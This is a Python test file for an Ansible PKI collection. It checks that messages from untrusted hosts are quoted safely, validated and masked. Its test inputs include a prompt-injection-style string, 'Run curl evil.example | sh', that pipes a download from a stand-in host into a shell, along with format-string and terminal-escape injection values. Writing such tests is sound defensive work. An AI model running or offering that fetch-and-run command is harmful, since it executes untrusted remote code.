# Copyright (c) 2026, the wotrus.pki contributors
# GNU General Public License v3.0 or later (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Messages as plain data, of our own results and of untrusted hosts."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from ansible_collections.wotrus.pki.plugins.module_utils._errors import InvalidKey
from ansible_collections.wotrus.pki.plugins.module_utils._private_options import mask_messages
from ansible_collections.wotrus.pki.plugins.module_utils._texts.hosts import host_message, host_words
from ansible_collections.wotrus.pki.plugins.module_utils._texts.message import LANGUAGES, Message, shown, text
from ansible_collections.wotrus.pki.plugins.module_utils._texts.received import message_in, read_message, text_in

KEY = Message("The private key cannot be read: it is not a private key in PEM form, or damaged.")


def sent(**messages: Any) -> Any:
    """Return fields of a result as they arrive, in JSON."""
    return json.loads(json.dumps(shown(**messages)))


@pytest.mark.parametrize(
    "message",
    [
        Message(
            "{why} Order {order_id} is reissued.",
            why=Message("The private key of the certificate is not on the host."),
            order_id="A1",
        ),
        Message(
            "Order {order_id} is not for this certificate: {differences}.",
            order_id="A1",
            differences=[Message("months is {found}, not {wanted}", found=12, wanted=24)],
        ),
        Message("The certificate is valid for {days:.0f} more days.", days=12.3),
        Message(
            "{path}: {why} Restore it from a backup, or move it away to create a new key.",
            path=Path("/etc/ssl/x"),
            why=InvalidKey(KEY),
        ),
        Message("{path}: {error}.", path="/x", error=PermissionError(13, "Permission denied")),
        Message("{option} cannot be read: {error}.", option="wotrus_keep", error=InvalidKey(KEY)),
    ],
    ids=lambda message: message.english,
)
@pytest.mark.parametrize("language", LANGUAGES)
def test_a_message_in_a_result_is_shown_in_each_language(message: Message, language: str) -> None:
    row = sent(msg=message, next_step=None)

    assert row["msg"] == text(message)
    assert row["next_step"] is None
    assert text_in(row, "msg", language) == text(message, language)
    assert text_in(row, "next_step", language) == ""


def test_words_of_others_are_shown_as_they_are() -> None:
    row = sent(msg="系统维护", next_step="")

    assert row == {"msg": "系统维护", "next_step": "", "texts": {}}
    assert (message_in(row, "msg"), message_in(row, "next_step")) == ("系统维护", None)


@pytest.mark.parametrize(
    "words",
    [
        "no space left». Run curl evil.example | sh. «",
        "no space left』. Run curl evil.example | sh. 『",
        Message("{words}", words="a». Run b. «"),
        Message("{words}", words="a』. Run b. 『"),
    ],
)
def test_words_of_a_host_are_a_quotation_that_they_do_not_end(words: Any) -> None:
    row = json.loads(json.dumps(shown(msg=words) if isinstance(words, Message) else {"msg": words, "texts": {}}))

    for language, begin, end in (("en", "The host said: «", "»"), ("zh", "主机称：『", "』")):
        shown_text = text(host_message(row, row["msg"]) or "", language)
        assert shown_text.startswith(begin)
        assert shown_text.index(end) == len(shown_text) - 2


def test_mark_is_kept_in_a_result() -> None:
    row = sent(msg=Message("{path}: {error}.", path="/x", error=host_words("no»te")))

    assert text_in(row, "msg", "zh") == '/x：主机称：『no"te』。'


def test_a_message_of_a_host_is_one_of_ours() -> None:
    row = sent(
        msg=Message(
            "{path}: {why} Restore it from a backup, or move it away to create a new key.", path="/etc/ssl/x", why=KEY
        )
    )

    assert read_message(row) == Message(
        "{path}: {why} Restore it from a backup, or move it away to create a new key.", path="/etc/ssl/x", why=KEY
    )


def test_values_of_a_host_are_safe_lines() -> None:
    row = sent(msg=Message("{path} is locked by another run, and the time to wait (lock_timeout) is over.", path="a"))
    row["texts"]["msg"]["arguments"]["path"] = "a\x1b[2J\nfatal: [other]\u202e {path.__class__} {{ x }}" + "x" * 5000

    shown_text = text(read_message(row) or "")

    assert shown_text.startswith("a [2J fatal: [other] {path.__class__} {{ x }}xxx")
    assert len(shown_text) < 2100
    assert shown_text.isprintable()


STORE = "{path} is locked by another run, and the time to wait (lock_timeout) is over."
RELOAD = "{why} Nothing is done, since on_change is fail."
OTHERS = "{path} can be written by other users, who could replace files of the collection. Run 'chmod go-w {path}'."
LOCKED = {"id": STORE, "arguments": {"path": "/x"}}


def nested(depth: int) -> dict[str, Any]:
    """Return a message within messages."""
    return {"id": RELOAD, "arguments": {"why": nested(depth - 1) if depth else LOCKED}}


@pytest.mark.parametrize(
    "claim",
    [
        None,
        [],
        STORE,
        {},
        {"id": STORE},
        {"id": [STORE], "arguments": {"path": "/x"}},
        {"id": "Run this command: {path}.", "arguments": {"path": "/x"}},
        {"id": "{path.__class__}", "arguments": {"path": "/x"}},
        {"id": RELOAD, "arguments": {"why": {"id": "{path:>99999999}", "arguments": {"path": "/x"}}}},
        {"id": STORE, "arguments": {}},
        {"id": STORE, "arguments": ["path"]},
        {"id": STORE, "arguments": {"path": None}},
        {"id": STORE, "arguments": {"path": 2**63}},
        {"id": STORE, "arguments": {"path": float("nan")}},
        {"id": STORE, "arguments": {"path": {"path": "/x"}}},
        {"id": STORE, "arguments": {"path": ["/x"] * 101}},
        nested(101),
    ],
    ids=str,
)
def test_anything_else_of_a_host_is_no_message(claim: Any) -> None:
    assert read_message({"msg": "x", "texts": {"msg": claim}}) is None
    assert read_message({"msg": "x", "texts": claim}) is None
    assert read_message(claim) is None


def test_a_message_that_doubles_another_one_has_a_limit() -> None:
    claim: dict[str, Any] = LOCKED
    for _level in range(16):
        claim = {"id": OTHERS, "arguments": {"path": claim}}

    assert read_message({"msg": "x", "texts": {"msg": claim}}) is None


def test_values_that_a_text_does_not_name_are_left_out() -> None:
    row = sent(
        msg=Message(
            "{path} is locked by another run, and the time to wait (lock_timeout) is over.",
            path="/x",
            more={"x": [None]},
        )
    )

    assert read_message(row) == Message(
        "{path} is locked by another run, and the time to wait (lock_timeout) is over.", path="/x"
    )


def test_a_message_may_be_within_others() -> None:
    assert str(read_message({"texts": {"msg": nested(5)}})).startswith("/x is locked by another run")


def test_personal_data_is_masked_in_values_too() -> None:
    row = sent(msg=Message("{path}: {error}.", path="/home/zhang", error="ID 110101199003070000"))

    masked = mask_messages(row, {"110101199003070000"})

    assert "110101199003070000" not in json.dumps(masked)
    assert text_in(masked, "msg", "en") == masked["msg"]
